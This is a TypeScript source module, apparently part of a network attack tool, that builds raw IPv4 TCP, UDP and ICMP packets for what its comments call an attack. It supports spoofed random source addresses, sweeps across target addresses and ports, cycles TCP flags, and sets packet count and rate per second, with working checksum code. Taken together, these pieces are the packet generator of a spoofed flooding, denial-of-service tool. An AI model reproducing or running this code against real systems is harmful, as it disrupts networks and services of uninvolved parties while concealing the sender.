import { parseWords } from '../../net/address.js';

/** Packets of one attack, as the sender is told to make them; IPv4. */
export interface Shots {
  readonly protocol: 'tcp' | 'udp' | 'icmp';
  /** An address, or another one for each packet. */
  readonly source: string | 'random';
  readonly target: string;
  /** Consecutive addresses from `target` on, in turn. */
  readonly targets: number;
  /** Consecutive ports from `port` on, in turn; of ICMP the type. */
  readonly port: number;
  readonly ports: number;
  /** `null` = another one for each packet. */
  readonly sourcePort: number | null;
  /** TCP flag bits, in turn. */
  readonly flags: readonly number[];
  /** Bytes of the IP packet, at least its headers. */
  readonly size: number;
  readonly count: number;
  readonly perSecond: number;
}

const PROTOCOL = { icmp: 1, tcp: 6, udp: 17 } as const;
const HEADERS = { icmp: 28, tcp: 40, udp: 28 } as const;

/** The packet of that number. @param random 32 bits that nobody can foretell, for random sources */
export function packetOf(shots: Shots, number: number, random: number): Buffer {
  const { protocol, targets, ports, flags } = shots;
  const packet = Buffer.alloc(Math.max(shots.size, HEADERS[protocol]));
  packet[0] = 0x45;
  packet.writeUInt16BE(packet.length, 2);
  packet.writeUInt16BE(number & 0xffff, 4);
  packet[8] = 64;
  packet[9] = PROTOCOL[protocol];
  packet.writeUInt32BE(shots.source === 'random' ? anySource(random) : wordOf(shots.source), 12);
  packet.writeUInt32BE(wordOf(shots.target) + (number % targets), 16);
  packet.writeUInt16BE(checksum(packet, 0, 20, 0), 10);
  const port = shots.port + (number % ports);
  const sourcePort = shots.sourcePort ?? 1024 + ((number * 7919 + random) & 0x7fff);
  if (protocol === 'icmp') {
    packet[20] = port;
    packet.writeUInt16BE(random & 0xffff, 24);
    packet.writeUInt16BE(number & 0xffff, 26);
    packet.writeUInt16BE(checksum(packet, 20, packet.length, 0), 22);
    return packet;
  }
  packet.writeUInt16BE(sourcePort & 0xffff, 20);
  packet.writeUInt16BE(port & 0xffff, 22);
  const length = packet.length - 20;
  const pseudo =
    PROTOCOL[protocol] + length + half(packet, 12) + half(packet, 14) + half(packet, 16) + half(packet, 18);
  if (protocol === 'tcp') {
    packet.writeUInt32BE(random >>> 0, 24);
    packet[32] = 0x50;
    packet[33] = flags[number % flags.length] ?? 0;
    packet.writeUInt16BE(8192, 34);
    packet.writeUInt16BE(checksum(packet, 20, packet.length, pseudo), 36);
  } else {
    packet.writeUInt16BE(length, 24);
    packet.writeUInt16BE(checksum(packet, 20, packet.length, pseudo) || 0xffff, 26);
  }
  return packet;
}

export function wordOf(address: string): number {
  return (parseWords(address)?.w0 ?? 0) >>> 0;
}

/** Outside every special network: 11.0.0.0 to 99.255.255.255. */
function anySource(random: number): number {
  return ((11 + ((random >>> 24) % 89)) << 24) + (random & 0xffffff) || 0;
}

function half(packet: Buffer, at: number): number {
  return packet.readUInt16BE(at);
}

/** The internet checksum (RFC 1071) of `[from, to)` and of what `sum` has already; the field itself is still 0. */
function checksum(packet: Buffer, from: number, to: number, sum: number): number {
  let total = sum;
  for (let at = from; at + 1 < to; at += 2) total += packet.readUInt16BE(at);
  if ((to - from) % 2 === 1) total += (packet[to - 1] as number) << 8;
  while (total > 0xffff) total = (total & 0xffff) + Math.floor(total / 0x10000);
  return ~total & 0xffff;
}
